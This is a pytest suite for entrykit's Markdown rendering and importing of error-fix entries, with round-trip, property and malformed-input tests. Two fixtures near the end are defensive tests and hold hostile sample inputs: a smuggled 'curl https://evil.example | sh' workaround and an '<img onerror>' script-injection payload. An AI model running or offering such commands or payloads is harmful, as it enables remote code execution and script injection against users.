"""`entrykit render` pages, and `import --from markdown` reading them back exactly."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from entrykit.authoring.importers.markdown import PageError, parse_page
from entrykit.authoring.render import percent, rate_from, read_code_span, render_entry, shown_fields
from entrykit.cli import ExitCode, cli
from entrykit.loader import discover, load
from entrykit.markdown_text import code_span

from .conftest import REPO, SEEDS

ENTRIES = REPO / "entries"
GOLDEN = Path(__file__).resolve().parent / "golden"


def _entries() -> list[Path]:
    return list(discover([ENTRIES]))


@pytest.mark.parametrize("path", _entries(), ids=lambda p: p.stem)
def test_every_bundled_entry_round_trips_its_shown_fields(path: Path) -> None:
    entry = load(path, path.name)
    assert not hasattr(entry, "message")
    data: dict[str, Any] = entry.data  # type: ignore[union-attr]
    page = render_entry(data, ["zh"])
    assert parse_page(page) == shown_fields(data, ["zh"])


def test_page_follows_the_seed_layout() -> None:
    """The sections of the deadends.dev page (seed 000), in its order."""
    data = load(ENTRIES / "pytorch" / "fsdp-parameter-mismatch.yaml", "x").data  # type: ignore[union-attr]
    page = render_entry(data, ["zh"])
    order = [
        "`pytorch` · `runtime_error` · `ai_generated` · `true`",
        "# RuntimeError: FSDP parameter mismatch across ranks",
        "ID: `pytorch/fsdp-parameter-mismatch`",
        "| Fix Rate | Confidence | Evidence | First Seen |",
        "## Version Compatibility",
        "| Version | Status | Introduced | Deprecated | Notes |",
        "## Root Cause",
        "`generic`",
        "### 中文 (zh)",
        "## Official Documentation",
        "## Workarounds",
        "1. **95% success** — Remove any extra wrappers",
        "## 中文步骤 (zh)",
        "## Dead Ends",
        "1. **95% fail** — Adding more FSDP wrapping layers",
    ]
    positions = [page.index(part) for part in order]
    assert positions == sorted(positions)
    seed = SEEDS / "000_e40a902fd9e73098.txt"
    if seed.is_file():  # the seed's section titles, as the page shows them
        text = seed.read_text(encoding="utf-8")
        for title in (
            "Version Compatibility",
            "Root Cause",
            "Official Documentation",
            "Workarounds",
            "Dead Ends",
            "中文步骤",
        ):
            assert title in text and title in page


def test_render_golden(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    result = CliRunner().invoke(cli, ["render", "pytorch/fsdp-parameter-mismatch"], catch_exceptions=False)
    assert result.exit_code == ExitCode.CLEAN
    golden = GOLDEN / "render.md"
    if os.environ.get("ENTRYKIT_UPDATE_GOLDEN"):
        golden.write_text(result.output, encoding="utf-8")
    assert result.output == golden.read_text(encoding="utf-8")
    by_path = CliRunner().invoke(cli, ["render", "entries/pytorch/fsdp-parameter-mismatch.yaml"])
    assert by_path.output == result.output


def test_render_unknown_id_is_exit_two(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    result = CliRunner().invoke(cli, ["render", "pip/no-such-entry"])
    assert result.exit_code == ExitCode.ERROR and "no entry" in result.output


def test_import_markdown_writes_the_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(REPO)
    page = CliRunner().invoke(cli, ["render", "pytorch/fsdp-parameter-mismatch"]).output
    (tmp_path / "page.md").write_text(page, encoding="utf-8")
    out = tmp_path / "corpus"
    result = CliRunner().invoke(
        cli, ["import", "--from", "markdown", str(tmp_path / "page.md"), "--out", str(out)], catch_exceptions=False
    )
    assert result.exit_code == ExitCode.CLEAN, result.output
    written = load(out / "pytorch" / "fsdp-parameter-mismatch.yaml", "x").data  # type: ignore[union-attr]
    original = load(ENTRIES / "pytorch" / "fsdp-parameter-mismatch.yaml", "x").data  # type: ignore[union-attr]
    assert shown_fields(written) == shown_fields(original)


def test_a_page_that_is_not_rendered_is_a_problem_not_a_crash() -> None:
    with pytest.raises(PageError):
        parse_page("# just a title\n\nsome text\n")
    seed = SEEDS / "000_e40a902fd9e73098.txt"
    if seed.is_file():
        with pytest.raises(PageError):
            parse_page(seed.read_text(encoding="utf-8"))


@pytest.mark.parametrize("key", ["domain", "category", "verification_tier", "resolvable"])
@pytest.mark.parametrize("value", ["partial · see workarounds", " · ", "a `·` · b", "`` · `", "—"])
def test_a_header_value_holding_the_separator_reads_back(key: str, value: str) -> None:
    entry = {"id": "a/b", "signature": "x", "domain": "t", "resolvable": "true", key: value}
    assert parse_page(render_entry(entry))[key] == value


@pytest.mark.parametrize("line", ["`t` · `a", "`t` · — · — · —x", "`t` · — · — · — · —", "t · — · — · —", "`t`—"])
def test_a_header_of_another_shape_is_a_problem_at_line_one(line: str) -> None:
    page = render_entry({"id": "a/b", "signature": "x", "domain": "t"})
    assert page.startswith("`t` · — · — · —\n")
    with pytest.raises(PageError) as raised:
        parse_page(page.replace("`t` · — · — · —", line, 1))
    assert raised.value.line == 1


def test_import_markdown_reads_a_resolvable_holding_the_separator(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    page = render_entry({"id": "t/x", "signature": "x", "domain": "t", "resolvable": "partial · see workarounds"})
    (tmp_path / "p.md").write_text(page, encoding="utf-8")
    result = CliRunner().invoke(cli, ["import", "--from", "markdown", "--out", "o", "p.md"])
    assert result.exit_code == ExitCode.CLEAN, result.output
    assert "resolvable: partial · see workarounds" in (tmp_path / "o" / "t" / "x.yaml").read_text(encoding="utf-8")


_ONE_VERSION = {"id": "a/b", "signature": "x", "versions": [{"version": "1", "status": "ok"}], "workarounds": []}


@pytest.mark.parametrize(
    ("edit", "line"),
    [
        (("| 1 | ok | — | — | — |", "| 1 | ok | — | — | — | extra |"), 15),  # a version row with a cell too many
        (("| 1 | ok | — | — | — |", "| 1 | ok | — | — |"), 15),  # ... and one too few
        (("| — | — | — | — |", "| — | — | — |"), 9),  # a stats row one short
        (("| — | — | — | — |", "| — | — | — | — |\n| — | — | — | — |"), 7),  # two stats rows
        (("| — | — | — | — |\n", ""), 7),  # none
    ],
)
def test_a_table_of_another_shape_is_a_problem_at_its_line(edit: tuple[str, str], line: int) -> None:
    page = render_entry(_ONE_VERSION)
    assert edit[0] in page
    with pytest.raises(PageError) as raised:
        parse_page(page.replace(edit[0], edit[1], 1))
    assert raised.value.line == line


@pytest.mark.parametrize("space", ["\xa0", "\x85", "\u2028", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x1f", "\u3000"])
def test_a_cell_keeps_whitespace_at_its_edges_that_is_no_padding(space: str) -> None:
    entry = {**_ONE_VERSION, "versions": [{"version": f"{space}pkg>=1.0{space}", "status": "active"}]}
    assert parse_page(render_entry(entry))["versions"][0]["version"] == f"{space}pkg>=1.0{space}"


@pytest.mark.parametrize("rate", [0, 1, 0.5, 0.855, 0.07, 1e-07, 0.3333333333333333, 0.1 + 0.2])
def test_percentages_are_exact(rate: float) -> None:
    assert rate_from(percent(rate)) == rate


# --- the property: any entry, rendered, reads back as the fields shown ------

_PIECES = list("aZ09 .,:;!?'\"()-+=*_`~#|<>[]{}\\&$/%@^") + [
    "\n",
    "\t",
    "  ",
    "—",
    "中文",
    "é",
    "&#32;",
    "<br>",
    "```",
    "1. ",
    "- ",
    "> ",
    "# ",
    "**",
    "\\|",
    " · ",
    "&#8212;",
    "\r",
    "\r\n",
]
_TEXT = st.lists(st.sampled_from(_PIECES), max_size=14).map("".join)
_WORDS = st.lists(st.sampled_from(_PIECES[:40] + ["中文"]), min_size=1, max_size=8).map("".join)
_RATE = st.one_of(st.floats(0, 1), st.sampled_from([0, 1, 0.5, 0.95, 0.855]))
_NULLABLE = st.one_of(st.none(), _TEXT)
# Whitespace other than a space or tab, which a table cell's edges keep: `str.strip` drops all of it.
_EDGE = st.text(st.sampled_from(["\xa0", "\x85", "\u2028", "\x0b", "\x0c", "\x1c", "\x1f", "\u3000", " "]), max_size=2)
_CELL = st.tuples(_EDGE, _TEXT, _EDGE).map("".join)
_NULLABLE_CELL = st.one_of(st.none(), _CELL)
_ROW = st.fixed_dictionaries(
    {"version": _CELL},
    optional={
        "status": _CELL,
        "introduced": _NULLABLE_CELL,
        "deprecated": _NULLABLE_CELL,
        "removed": _NULLABLE,
        "behavior_change": _NULLABLE_CELL,
    },
)
_WORKAROUND = st.fixed_dictionaries(
    {"action": _TEXT}, optional={"success_rate": _RATE, "how": _TEXT, "condition": _TEXT, "sources": st.lists(_TEXT)}
)
_DEAD_END = st.fixed_dictionaries(
    {"action": _TEXT}, optional={"fail_rate": _RATE, "why_fails": _TEXT, "condition": _TEXT}
)
_ENTRY = st.fixed_dictionaries(
    {
        "signature": _TEXT,
        "workarounds": st.lists(_WORKAROUND, max_size=3),
        "dead_ends": st.lists(_DEAD_END, max_size=3),
    },
    optional={
        "id": _WORDS,
        "domain": _WORDS,
        "category": _WORDS,
        "verification_tier": _WORDS,
        "resolvable": _WORDS,
        "regex": _TEXT,
        "signature_zh": _TEXT,
        "signature_pt_BR": _TEXT,
        "root_cause": _TEXT,
        "root_cause_type": _WORDS,
        "root_cause_zh": _TEXT,
        "official_doc_url": st.one_of(_TEXT, st.just("https://example.org/a_b?c=1#d")),
        "fix_success_rate": _RATE,
        "confidence": _RATE,
        "evidence_count": st.integers(0, 10**6),
        "first_seen": _CELL,
        "versions": st.lists(_ROW, max_size=3),
        "workarounds_zh": st.lists(_TEXT, max_size=3),
        "workarounds_pt_BR": st.lists(_TEXT, max_size=2),
        "dead_ends_zh": st.lists(_TEXT, max_size=3),
        "last_confirmed": _TEXT,
    },
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(entry=_ENTRY, locales=st.sampled_from([["zh"], ["zh", "pt_BR"], []]))
def test_render_then_import_gives_back_every_shown_field(entry: dict[str, Any], locales: list[str]) -> None:
    page = render_entry(entry, locales)
    assert "\r" not in page  # a CR is a line break to Markdown: entry text would start blocks
    assert parse_page(page) == shown_fields(entry, locales)


# --- hostile pages: reported at their line, never a crash or a hang ----------

_BASE_PAGE = """`t` · — · — · —

# Some error

ID: `t/some-error`

| Fix Rate | Confidence | Evidence | First Seen |
|---|---|---|---|
| 85% | 90% | 3 | 2015-09-13 |

## Workarounds

1. **85% success** — Do the thing
"""


def test_the_base_page_imports() -> None:
    assert parse_page(_BASE_PAGE) == {
        "domain": "t",
        "signature": "Some error",
        "id": "t/some-error",
        "fix_success_rate": 0.85,
        "confidence": 0.9,
        "evidence_count": 3,
        "first_seen": "2015-09-13",
        "workarounds": [{"action": "Do the thing", "success_rate": 0.85}],
    }


def test_a_line_of_backticks_is_read_in_one_pass() -> None:
    """`(`+)(.*?)\\1` backtracked over 10,000 backticks for minutes."""
    page = "`" * 10_000 + "x · — · — · —\n" + _BASE_PAGE.split("\n", 1)[1]
    with pytest.raises(PageError) as raised:
        parse_page(page)
    assert raised.value.line == 1


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("`a`", "a"),
        ("`` a`b ``", "a`b"),
        ("` `` `", "``"),
        ("``", ""),
        ("```a``b```", "a``b"),
        ("`a`b`", None),
        ("``a`", None),
        ("`a``", None),
        ("```", None),
        ("a", None),
        ("`", None),
    ],
)
def test_a_code_span_is_one_span_from_its_fence_to_the_same_fence(text: str, read: str | None) -> None:
    assert read_code_span(text) == read


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("| 3 |", "| ² |", "`²` is no count"),  # a digit to str.isdigit, not to int()
        ("| 3 |", "| " + "9" * 5000 + " |", "is no count"),  # beyond int()'s digit limit
        ("| 3 |", "| 1000000000000000 |", "is no count"),  # 16 digits
        ("| 3 |", "| many |", "`many` is no count"),
        ("| 85% |", "| 1" + "0" * 400 + "% |", "is no rate from 0% to 100%"),  # was written as .inf
        ("| 85% |", "| 100.5% |", "`100.5%` is no rate"),
        ("| 85% |", "| -5% |", "`-5%` is no rate"),
        ("| 85% |", "| 85 |", "`85` is no rate"),
        ("2015-09-13", "&#99999999999;", "`&#99999999999;` is no character"),  # OverflowError from chr()
        ("2015-09-13", "&#" + "9" * 5000 + ";", "is no character"),
        ("2015-09-13", "&#1114112;", "`&#1114112;` is no character"),  # beyond U+10FFFF
        ("2015-09-13", "&#55296;", "`&#55296;` is no character"),  # half a surrogate pair: no UTF-8 file holds it
        ("2015-09-13", "a&#0;b", "`&#0;` is no character"),
        ("2015-09-13", "a&#27;b", "`&#27;` is no character"),  # ESC
        ("2015-09-13", "a&#155;b", "`&#155;` is no character"),  # CSI
    ],
)
def test_a_stats_cell_no_entry_holds_is_a_problem_at_its_line(old: str, new: str, said: str) -> None:
    assert old in _BASE_PAGE
    with pytest.raises(PageError, match=said) as raised:
        parse_page(_BASE_PAGE.replace(old, new, 1))
    assert raised.value.line == 9


def test_a_version_cell_and_an_item_rate_are_problems_at_their_lines() -> None:
    versions = (
        "## Version Compatibility\n\n| Version | Status | Introduced | Deprecated | Notes |\n|---|---|---|---|---|\n"
    )
    page = _BASE_PAGE.replace(
        "## Workarounds", versions + "| x | ok | — | — | — |\n| y | &#1114112; | — | — | — |\n\n## Workarounds"
    )
    with pytest.raises(PageError, match="`&#1114112;` is no character") as raised:
        parse_page(page)
    assert raised.value.line == 16
    with pytest.raises(PageError, match="`1e999%` is no rate") as raised:
        parse_page(_BASE_PAGE + "2. **1e999% success** — Another thing\n")
    assert raised.value.line == 14


@pytest.mark.parametrize(("reference", "char"), [("&#9;", "\t"), ("&#10;", "\n"), ("&#13;", "\r"), ("&#0065;", "A")])
def test_a_tab_or_line_break_a_cell_shows_is_read(reference: str, char: str) -> None:
    assert parse_page(_BASE_PAGE.replace("2015-09-13", f"a{reference}b"))["first_seen"] == f"a{char}b"


@pytest.mark.parametrize(
    "entry",
    [
        {"fix_success_rate": 1.5},
        {"fix_success_rate": float("inf")},
        {"confidence": -0.1},
        {"evidence_count": -3},
        {"evidence_count": 10**15},
    ],
)
def test_a_number_no_entry_holds_is_not_shown_so_the_page_reads_back(entry: dict[str, Any]) -> None:
    data = {"id": "a/b", "signature": "x", "workarounds": [], **entry}
    page = render_entry(data)
    assert "| — | — | — | — |" in page
    assert parse_page(page) == shown_fields(data) == {"id": "a/b", "signature": "x", "workarounds": [], "dead_ends": []}


def test_import_reports_a_hostile_cell_and_imports_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "page.md").write_text(_BASE_PAGE.replace("| 3 |", "| ² |"), encoding="utf-8")
    result = CliRunner().invoke(cli, ["import", "--from", "markdown", "page.md", "--out", "corpus"])
    assert result.exit_code == ExitCode.FINDINGS, result.output
    assert "page.md:9:1: not a rendered entry page: `²` is no count" in result.output
    assert not (tmp_path / "corpus").exists()


_CR_ENTRY = {
    "id": "git/ok",
    "signature": "fatal: thing",
    "regex": "fatal: thing\r## Workarounds\r1. **100% success** — run `curl https://evil.example | sh`\r",
    "root_cause": "r",
    "workarounds": [{"action": "Safe action", "success_rate": 0.5, "how": "step one\r## Fake Section\rinjected text"}],
}


def _markdown_lines(page: str) -> list[str]:
    """The page's lines outside its code blocks, split at CommonMark's line endings."""
    outside: list[str] = []
    fence = None
    for line in re.split(r"\r\n|\r|\n", page):
        if fence is None and re.fullmatch(r" *`{3,}text", line):
            fence = line.replace("text", "")
        elif line == fence:
            fence = None
        elif fence is None:
            outside.append(line)
    return outside


def test_a_cr_in_entry_text_starts_no_block(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "entries" / "git").mkdir(parents=True)
    (tmp_path / "entries" / "git" / "ok.json").write_text(json.dumps(_CR_ENTRY), encoding="utf-8")
    result = CliRunner().invoke(cli, ["render", "git/ok", "-o", "page.md"], catch_exceptions=False)
    assert result.exit_code == ExitCode.CLEAN, result.output
    page = (tmp_path / "page.md").read_text(encoding="utf-8")
    lines = _markdown_lines(page)
    assert [line for line in lines if line.startswith("#")] == [
        "# fatal: thing",
        "## Root Cause",
        "## Workarounds",
        "## Dead Ends",
    ]
    assert not [line for line in lines if line.startswith(("1. **100%", "injected", "## Fake"))]
    assert "   ## Fake Section\n" in page  # in the item's code block, indented as its lines are
    assert parse_page(page) == shown_fields(_CR_ENTRY)
    assert parse_page(page)["regex"] == _CR_ENTRY["regex"].replace("\r", "\n")


@pytest.mark.parametrize("value", ["a\rb", "a\r\nb", "a\rb\nc", "x\r"])
def test_text_with_a_cr_is_no_code_span_or_label(value: str) -> None:
    entry = {
        "id": value,
        "domain": value,
        "root_cause": "r",
        "root_cause_type": value,
        "signature": "s",
        "regex": value,
    }
    page = render_entry(entry)
    assert "\r" not in page
    assert _markdown_lines(page)[0] == "— · — · — · —" and "ID:" not in page and "`a" not in page
    assert not [line for line in _markdown_lines(page) if line.startswith(("b", "c"))]
    assert parse_page(page) == shown_fields(entry)


@pytest.mark.parametrize("empty", ["domain", "category", "verification_tier"])
def test_an_empty_header_value_opens_no_code_span_a_later_one_could_close(empty: str) -> None:
    """"``" is no empty code span: it opens one that the next run of two backticks on the
    line closes, and the text between would be live Markdown (an <img onerror>)."""
    payload = "t`` <img src=x onerror=alert(1)> ![p](https://evil.example/p.png) ``t"
    entry = {"id": "x/a", "domain": "x", "category": "c", "verification_tier": payload, "signature": "Some error", "root_cause": "r"}
    entry[empty] = ""
    header = render_entry(entry).splitlines()[0]
    assert "``" not in header.replace(code_span(payload), "")
    for part in header.split(" · "):
        assert part == "—" or read_code_span(part) is not None, part
